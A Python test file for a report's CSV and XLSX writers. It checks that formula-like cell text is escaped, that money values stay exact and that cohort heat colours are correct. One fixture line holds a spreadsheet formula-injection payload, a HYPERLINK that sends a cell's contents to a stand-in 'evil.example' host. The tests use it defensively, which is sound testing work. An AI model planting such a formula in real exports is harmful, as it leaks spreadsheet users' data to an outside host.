"""The report's CSV and XLSX writers in services (no Qt): text a person typed stays
text, money is exact, the words are the caller's."""

import csv
import re
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from app.services.report_writers import (
    INT,
    MIXED,
    MONEY,
    PERCENT,
    TEXT,
    Column,
    ReportFile,
    Table,
    heat_colour,
    write_csv,
    write_xlsx,
)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PHONE_LIKE = "+7 916 123-45-67"
BIG = 123_456_789_012_345  # 15 digits: as many as a spreadsheet's number keeps


def _report() -> ReportFile:
    summary = Table("summary", "Сводка", [Column("Показатель", TEXT), Column("Значение", MIXED)],
                    [["Выручка", (BIG, MONEY)], ["Доля", (0.5, PERCENT)], ["Визиты", (3, INT)]])
    top = Table("top_revenue", "Лучшие", [Column("Участник", TEXT), Column("Выручка", MONEY)],
                [[EVIL, 123450], [PHONE_LIKE, -5], ["Анна", None]])
    cohorts = Table("cohorts", "Когорты", [Column("Месяц 0", PERCENT)], [[1.0], [None]])
    return ReportFile(["=Магазин", "Период: март 2026"], [summary, top, cohorts], "RUB", "ru",
                      "Ед.")


def test_report_csv_keeps_formula_like_text_as_text_and_money_exact(tmp_path):
    path = tmp_path / "r.csv"
    write_csv(_report(), path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    fields = [field for row in rows for field in row]
    assert "'" + EVIL in fields and "'" + PHONE_LIKE in fields and "'=Магазин" in fields
    assert EVIL not in fields and PHONE_LIKE not in fields
    assert ["Выручка", "1234567890123.45", "RUB"] in rows  # the caller's unit heading below
    assert ["Показатель", "Значение", "Ед."] in rows
    assert ["Участник", "Выручка, RUB"] in rows
    assert ["'" + PHONE_LIKE, "-0.05"] in rows and ["Анна", ""] in rows
    assert ["Доля", "50.0", "%"] in rows


def test_report_workbook_keeps_formula_like_text_as_text_and_money_exact(tmp_path):
    path = tmp_path / "r.xlsx"
    write_xlsx(_report(), path)
    book = load_workbook(path)
    assert [s.title for s in book.worksheets] == ["Сводка", "Лучшие", "Когорты"]
    summary, top, cohorts = book.worksheets
    assert summary["A1"].value == "=Магазин" and summary["A1"].data_type == "s"
    assert top["A2"].value == EVIL and top["A2"].data_type == "s"
    assert top["A3"].value == PHONE_LIKE and top["A3"].data_type == "s"
    assert not [c for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    money = summary["B5"]  # two header lines, a blank row, the column names
    assert money.number_format == "#,##0.00"
    sheet = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode()
    assert re.search(r'<c r="B5" s="\d+" t="n"><v>1234567890123\.45</v>', sheet)
    assert Decimal(str(top["B2"].value)) == Decimal("1234.50")
    assert top["B3"].value == -0.05 and top["B4"].value is None
    assert cohorts["A2"].fill.fgColor.rgb.lower().endswith("0b6e4f")  # everyone: the deepest shade
    assert cohorts["A3"].fill.fgColor.rgb.lower().endswith("eeeeee")  # the month has not come


def test_heat_colour_runs_from_white_to_green():
    assert heat_colour(0.0) == "#f4fbf7" and heat_colour(1.0) == "#0b6e4f"
    assert heat_colour(None) == "#eeeeee" and heat_colour(2.0) == heat_colour(1.0)
